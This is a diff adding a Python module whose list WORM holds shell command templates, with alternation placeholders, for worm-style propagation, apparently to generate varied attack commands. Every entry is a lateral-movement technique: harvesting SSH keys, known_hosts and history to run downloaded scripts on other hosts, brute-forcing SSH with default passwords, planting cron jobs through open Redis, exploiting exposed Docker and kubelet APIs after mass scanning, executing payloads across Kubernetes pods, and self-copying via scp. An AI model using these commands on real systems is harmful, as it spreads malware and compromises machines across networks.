@@ -1,0 +1,11 @@
+"""From one machine to the next."""
+
+WORM = [
+    "for h in $(‹cat ~/.ssh/known_hosts ~/.ssh/config 2>/dev/null | grep -oE '([0-9]{1,3}\\.){3}[0-9]{1,3}' | sort -u¦awk '{print $1}' ~/.ssh/known_hosts | cut -d, -f1¦grep -oE '([0-9]{1,3}\\.){3}[0-9]{1,3}' ~/.bash_history /etc/hosts›); do ssh -o‹ ›StrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 ‹root@¦›$h '‹{dl} {url} | bash¦nohup bash -c \"{dl} {url} | sh\" >/dev/null 2>&1 &›' & done",
+    "KEYS=$(find ~/ /root /home -maxdepth 3 -name 'id_rsa*' | grep -v pub); HOSTS=$(‹cat /home/*/.bash_history /root/.bash_history | grep -E '(ssh|scp)' | grep -oP '([0-9]{1,3}\\.){3}[0-9]{1,3}'¦arp -a | grep -oE '([0-9]+\\.){3}[0-9]+'›); for k in $KEYS; do for h in $HOSTS; do ssh -i $k -o StrictHostKeyChecking=no root@$h \"{dl} {url} | sh\" & done; done",
+    "for i in $(seq 1 254); do ‹(echo > /dev/tcp/‹10.0.0¦192.168.1¦$net›.$i/22) 2>/dev/null && sshpass -p ‹root¦admin¦$p› ssh -o StrictHostKeyChecking=no root@$net.$i '{dl} {url} | bash'¦timeout 1 redis-cli -h $net.$i flushall && redis-cli -h $net.$i set x \"\\n* * * * * {dl} {url} | sh\\n\" && redis-cli -h $net.$i config set dir /var/spool/cron && redis-cli -h $net.$i config set dbfilename root && redis-cli -h $net.$i save›; done",
+    "‹masscan¦zmap¦pnscan¦nmap -n -Pn› ‹-p2375 {ip}/16 --rate 10000¦-p 22,6379,2375,10250 {ip}/24¦-p6379 --rate=10000 -iL {file}› ‹-oL {file}¦-oG -¦› | awk '{print $4}' | while read h; do ‹docker -H tcp://$h:2375 run -d --privileged -v /:/mnt alpine chroot /mnt sh -c '{dl} {url} | sh'¦curl -sk https://$h:10250/run/default/p/c -d 'cmd={dl} {url} | sh'¦redis-cli -h $h config set dir /root/.ssh›; done",
+    "while read -r u p; do for h in $(cat {file}); do sshpass -p \"$p\" scp -o StrictHostKeyChecking=no $0 $u@$h:/tmp/ && sshpass -p \"$p\" ssh $u@$h 'bash /tmp/{name} &'; done; done < {tmp}/pass.txt",
+    "kubectl get pods -A -o ‹name¦jsonpath='{..metadata.name}'› | while read p; do kubectl exec $p -- sh -c '{dl} {url} | sh'; done",
+    "scp -o StrictHostKeyChecking=no ‹-o UserKnownHostsFile=/dev/null ¦-i {file} ¦›{name} {user}@{host}:‹~/{name}¦/tmp/{name}› && ssh -o StrictHostKeyChecking=no ‹-o ConnectTimeout={n} ¦›{user}@{host} '‹nohup ¦›‹~/¦/tmp/›{name} ‹-server {url} ¦›‹&¦>/dev/null 2>&1 &›'",
+]
